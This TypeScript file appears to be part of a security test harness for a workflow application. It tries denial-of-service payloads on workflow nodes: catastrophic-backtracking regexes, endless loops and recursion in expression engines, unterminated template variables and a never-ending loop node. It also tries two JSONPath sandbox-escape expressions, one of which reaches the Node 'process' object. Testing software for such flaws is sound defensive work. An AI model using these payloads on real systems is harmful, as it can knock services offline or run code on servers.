import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attacks';
import type { Stage } from './stage';

/** What an app's administrator enters into nodes of workflows, so that the process of all apps never answers again. */

/** Another app answers within this time, in ms, whatever is calculated. */
const PATIENCE = 5_000;

/** Does something in the app, and asks another one of its process meanwhile. @returns what that one has noticed */
async function noticed(stage: Stage, what: string, work: () => Promise<unknown>): Promise<string[]> {
  const found: string[] = [];
  let isOver = false;
  const working = work().finally(() => {
    isOver = true;
  });
  while (!isOver) {
    const begun = performance.now();
    const { status } = await stage.as('bystander', 'auth:check').catch(() => ({ status: 'nothing' }));
    const took = performance.now() - begun;
    if (status !== 200 || took > PATIENCE)
      found.push(`${what}: another app answers ${status} after ${Math.round(took)} ms`);
    await sleep(50);
  }
  await working;
  return found;
}

const SLOW = `${'a'.repeat(29)}b`;
const ENDLESS = '(()=>{while(true){}})()';
/** By type of node, configurations that the page of a workflow tries at once. */
const TRIED: Array<[type: string, config: object]> = [
  ['json-query', { engine: 'jsonpathplus', source: [{ s: SLOW }], expression: '$[?(/^(a+)+$/.test(@.s))]' }],
  ['json-query', { engine: 'jsonata', source: {}, expression: '($f := function($x){ $f($x) }; $f(1))' }],
  ['json-query', { engine: 'jsonata', source: {}, expression: `$match("${SLOW}", /^(a+)+$/)` }],
  ['calculation', { engine: 'formula.js', expression: ENDLESS }],
  ['condition', { engine: 'formula.js', expression: ENDLESS }],
];

/** Leave the sandbox of a library, if it evaluates JavaScript; each would give the name of a constructor. */
const ESCAPES = [
  "$[?(@.a.__lookupGetter__('__proto__').call(@.a).constructor.name === 'Object')]",
  "$[(@.a.__lookupGetter__('__proto__').call(@.a.__lookupGetter__).constructor('return process')())]",
];

const TEMPLATE = `{{${'_'.repeat(60)}`;
/** By type of node, of the plugins that apps have without being asked: configurations in which a variable never ends. */
const TEMPLATES: Array<[type: string, config: object]> = [
  ['variable', { value: TEMPLATE }],
  ['output', { value: TEMPLATE }],
  ['response-message', { message: TEMPLATE }],
  [
    'condition',
    { rejectOnFalse: false, engine: 'basic', calculation: { calculator: 'equal', operands: [TEMPLATE, 1] } },
  ],
  ['multi-conditions', { conditions: [{ calculation: { calculator: 'equal', operands: [TEMPLATE, 1] } }] }],
  ['loop', { target: TEMPLATE }],
  ['json-query', { engine: 'jmespath', expression: '@', source: TEMPLATE }],
  ['json-variable-mapping', { dataSource: TEMPLATE, variables: [] }],
  ['dateCalculation', { input: TEMPLATE, steps: [] }],
  ['delay', { duration: TEMPLATE }],
  ['request', { url: TEMPLATE, method: 'GET' }],
  ['sql', { sql: TEMPLATE, unsafeInjection: true }],
  ['mailer', { provider: { host: '127.0.0.1', port: 1 }, from: TEMPLATE, to: ['a@x.test'] }],
  ['notification', { channelName: 'none', content: TEMPLATE }],
  ['cc', { users: [], title: TEMPLATE }],
  ['query', { collection: 'roles', params: { filter: { title: TEMPLATE } } }],
  ['create', { collection: 'roles', params: { values: { title: TEMPLATE } } }],
  ['update', { collection: 'roles', params: { filter: { title: TEMPLATE }, values: { title: 'x' } } }],
  ['destroy', { collection: 'roles', params: { filter: { title: TEMPLATE } } }],
  ['aggregate', { aggregator: 'count', collection: 'roles', params: { field: 'name', filter: { title: TEMPLATE } } }],
  ['script', { arguments: [{ name: 'a', value: TEMPLATE }], content: 'return 1' }],
  ['llm', { llmService: TEMPLATE }],
  ['ai-employee', { username: TEMPLATE, message: { user: TEMPLATE } }],
  ['calculation', { engine: 'formula.js', expression: TEMPLATE }],
  ['manual', { assignees: [1], title: TEMPLATE, schema: {} }],
  ['parallel', { mode: 'all', title: TEMPLATE }],
  ['end', { endStatus: 1, title: TEMPLATE }],
];
const NEVER = { calculator: 'equal', operands: [1, 2] };
const LOOPS: Array<[type: string, config: object]> = [
  ['loop', { target: 1e15, condition: { checkpoint: 0, continueOnFalse: true, calculation: NEVER } }],
];

let ran = 0;
/**
 * Runs a workflow with this node, which the creation of a role starts.
 * @returns what was not tried: no node may be passed over
 */
async function runNode(stage: Stage, type: string, config: object): Promise<string[]> {
  const post = async (action: string, body: object) => {
    const { status, text } = await stage.as('target', action, body);
    if (status !== 200) throw new Error(`a node ${type}: ${action} answers ${status} ${text.slice(0, 200)}`);
    return JSON.parse(text).data;
  };
  const trigger = { type: 'collection', config: { collection: 'roles', mode: 1 } };
  const role = `r_attack_${++ran}`;
  const { id } = await post('workflows:create', { title: role, sync: true, enabled: true, ...trigger });
  try {
    const nodes = `workflows/${id}/nodes:create`;
    const first = await post(nodes, { type, config });
    // A loop without anything to repeat is over at once.
    if (type === 'loop') await post(nodes, { type: 'variable', config: {}, upstreamId: first.id, branchIndex: 0 });
    await stage.as('target', 'roles:create', { name: role, title: 'x' });
    const { text } = await stage.as('target', `executions:list?filter[workflowId]=${id}`);
    return JSON.parse(text).data.length ? [] : [`a node ${type} was not run`];
  } finally {
    await stage.as('target', `workflows:destroy?filterByTk=${id}`, {});
    await stage.as('target', `roles:destroy?filterByTk=${role}`, {});
  }
}

async function run(stage: Stage, nodes: Array<[type: string, config: object]>): Promise<string[]> {
  const found: string[] = [];
  for (const [type, config] of nodes) {
    const work = async () => {
      found.push(...(await runNode(stage, type, config).catch((error: Error) => [error.message])));
    };
    found.push(...(await noticed(stage, `a node ${type}`, work)));
  }
  return found;
}

export const byNodes: Attack[] = [
  {
    finding: 'E16',
    title: 'expressions of workflow nodes that never end',
    async run(stage) {
      const found: string[] = [];
      for (const [type, config] of TRIED)
        found.push(
          ...(await noticed(stage, JSON.stringify(config), () =>
            stage.as('target', 'flow_nodes:test', { type, config }),
          )),
        );
      return found;
    },
  },
  {
    finding: 'E17',
    title: 'the process, out of the sandbox of JSONPath',
    async run(stage) {
      const found: string[] = [];
      for (const expression of ESCAPES) {
        const config = { engine: 'jsonpathplus', source: [{ a: {} }], expression };
        const { text } = await stage.as('target', 'flow_nodes:test', { type: 'json-query', config });
        if (!text.includes('prevented')) found.push(`${expression} answers ${text.slice(0, 100)}`);
      }
      return found;
    },
  },
  {
    finding: 'E18',
    title: 'variables without an end, in every node of a workflow',
    run: (stage) => run(stage, TEMPLATES),
  },
  {
    finding: 'E20',
    title: 'a loop of a workflow that looks for its next item for ever',
    run: (stage) => run(stage, LOOPS),
  },
];
